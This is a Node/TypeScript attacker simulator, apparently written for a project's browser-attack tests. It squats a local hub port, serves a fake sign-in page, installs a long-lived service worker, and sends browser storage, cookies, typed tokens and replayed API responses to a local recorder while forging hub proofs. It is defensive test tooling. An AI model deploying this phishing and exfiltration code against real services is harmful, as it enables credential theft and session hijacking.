import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';

/**
 * Another local user's program that takes a Pincer hub's port the moment it is free, for the
 * browser attack tests: `node browser-squatter.js <port> <record-file> <seconds>`, run as another
 * uid. It spins on binding the port on 127.0.0.1 and on ::1 (every millisecond, each family on its
 * own) for at most <seconds>, and keeps a recorder on a port of its own. It writes one JSON line per
 * request to the record file — what reached the port (method, URL, headers, body) and what its page
 * and service worker sent home from the victim's browser (storage, cookies, the address with its
 * fragment, what was typed, every request the worker saw) — and prints `recorder <port>`, then
 * `bound v4|v6 <pid>` as it takes each family.
 *
 * What it serves on the port, to lure a dashboard tab: a page that sends home what the origin
 * holds, registers a service worker that answers every navigation of the origin with that page
 * for as long as the browser keeps it (its script cached for a year, updates served from the
 * cache), shows a sign-in form like the dashboard's, and keeps trying what it found against
 * whatever serves the origin later (the real hub, once it is back). To the hub's own routes it
 * answers as a hub would, with a forged identity, a forged proof and a live event stream.
 */
const [portText, record, secondsText, workerCache] = process.argv.slice(2);
/** `all` (the default): the worker's script is cached a year and updates checked against the cache; `none`: every update check reaches the port. */
const cache = workerCache === 'none' ? 'none' : 'all';
const port = Number(portText);
const until = Date.now() + Number(secondsText ?? '60') * 1000;

function note(entry: Record<string, unknown>): void {
  fs.appendFileSync(record!, `${JSON.stringify({ at: Date.now(), ...entry })}\n`);
}

function page(recorder: string): string {
  const script = `
const R = ${JSON.stringify(recorder)};
const send = (kind, data) => fetch(R + '/exfil', { method: 'POST', body: JSON.stringify({ kind, href: location.href, data }) }).catch(() => undefined);
const storage = (s) => { const o = {}; try { for (let i = 0; i < s.length; i++) o[s.key(i)] = s.getItem(s.key(i)); } catch {} return o; };
send('page', { session: storage(sessionStorage), local: storage(localStorage), cookie: document.cookie, hash: location.hash });
navigator.serviceWorker?.register('/sw.js', { scope: '/', updateViaCache: ${JSON.stringify(cache)} }).then(() => send('sw-registered', {}), (e) => send('sw-failed', String(e)));
document.title = 'Sign in — Pincer';
document.body.innerHTML = '<main id="main"><form id="f"><h1>Sign in to Pincer</h1><label for="token">Hub token</label><input id="token" type="password"><button type="submit">Sign in</button></form></main>';
document.getElementById('f').onsubmit = (e) => { e.preventDefault(); send('typed', document.getElementById('token').value); };
setInterval(async () => {
  const held = { ...storage(sessionStorage), ...storage(localStorage) };
  const headers = {};
  for (const v of Object.values(held)) if (typeof v === 'string') { headers['X-Pincer-Session-Key'] = v; headers['X-Pincer-Session'] = v; }
  for (const p of ['/api/token', '/api/settings/secret/AUTH_TOKEN', '/api/overview']) {
    try { const r = await fetch(p, { credentials: 'include', headers }); send('linger', { path: p, status: r.status, body: (await r.text()).slice(0, 400) }); } catch {}
  }
}, 1500);`;
  return `<!doctype html><meta charset="utf-8"><title>Pincer</title><body><script>${script}</script>`;
}

function worker(recorder: string): string {
  return `
const R = ${JSON.stringify(recorder)};
const PAGE = ${JSON.stringify(page(recorder))};
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const headers = {};
  e.request.headers.forEach((v, k) => (headers[k] = v));
  fetch(R + '/exfil', { method: 'POST', body: JSON.stringify({ kind: 'sw', data: { url: e.request.url, method: e.request.method, mode: e.request.mode, headers } }) }).catch(() => undefined);
  if (e.request.mode === 'navigate') e.respondWith(new Response(PAGE, { headers: { 'Content-Type': 'text/html' } }));
  else if (!e.request.url.startsWith(R)) e.respondWith(fetch(e.request));
});`;
}

function answer(req: http.IncomingMessage, body: string, res: http.ServerResponse, recorder: string): void {
  const url = req.url ?? '/';
  const path = url.split('?')[0];
  if (req.headers['service-worker'] === 'script' || path === '/sw.js') {
    res.writeHead(200, { 'Content-Type': 'text/javascript', 'Cache-Control': cache === 'all' ? 'max-age=31536000' : 'no-store', 'Service-Worker-Allowed': '/' });
    return void res.end(worker(recorder));
  }
  if ((req.headers.accept ?? '').includes('text/html')) {
    res.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'max-age=31536000' });
    return void res.end(page(recorder));
  }
  if (path === '/api/mcp/connect') {
    res.writeHead(200, { 'Content-Type': 'text/event-stream' });
    res.write(`data: ${JSON.stringify({ type: 'connected', timestamp: Date.now() })}\n\n`);
    return;
  }
  const challenge = new URLSearchParams(url.split('?')[1] ?? '').get('challenge') ?? new URLSearchParams(url.split('?')[1] ?? '').get('c');
  const forged = 'forged-proof-forged-proof-forged-proof-xx';
  res.writeHead(200, { 'Content-Type': 'application/json' });
  res.end(JSON.stringify({ success: true, status: 'healthy', name: 'pincer', signedIn: true, key: 'forged-key', sid: 'forged', epoch: 'forged', proof: forged, at: req.headers.host, hub: { pid: process.pid, role: 'headless', proof: forged, bound: forged, at: req.headers.host }, challenge, body: body.length }));
}

function serve(recorder: string): http.Server {
  return http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8').slice(0, 4000);
      note({ via: 'port', method: req.method, url: req.url, headers: req.headers, body });
      answer(req, body, res, recorder);
    });
  });
}

const recorderServer = http.createServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    let body: unknown = Buffer.concat(chunks).toString('utf8');
    try {
      body = JSON.parse(body as string);
    } catch {
      // Kept as text.
    }
    if (req.method === 'POST') note({ via: 'recorder', body });
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*', 'Access-Control-Allow-Private-Network': 'true' });
    res.end();
  });
});

fs.writeFileSync(record!, '');
recorderServer.listen(0, '127.0.0.1', () => {
  const recorder = `http://127.0.0.1:${(recorderServer.address() as net.AddressInfo).port}`;
  process.stdout.write(`recorder ${recorder}\n`);
  for (const [family, host] of [['v4', '127.0.0.1'], ['v6', '::1']] as const) {
    const server = serve(recorder);
    const attempt = () => server.listen({ port, host, exclusive: true });
    server.on('error', (err: NodeJS.ErrnoException) => {
      // No ::1 on this machine: no browser reaches it there either.
      if (err.code === 'EADDRNOTAVAIL' || err.code === 'EAFNOSUPPORT') return;
      if (Date.now() > until) return;
      setTimeout(attempt, 1);
    });
    server.once('listening', () => process.stdout.write(`bound ${family} ${process.pid}\n`));
    attempt();
  }
});
setTimeout(() => process.exit(0), Math.max(0, until - Date.now()) + 60_000).unref();
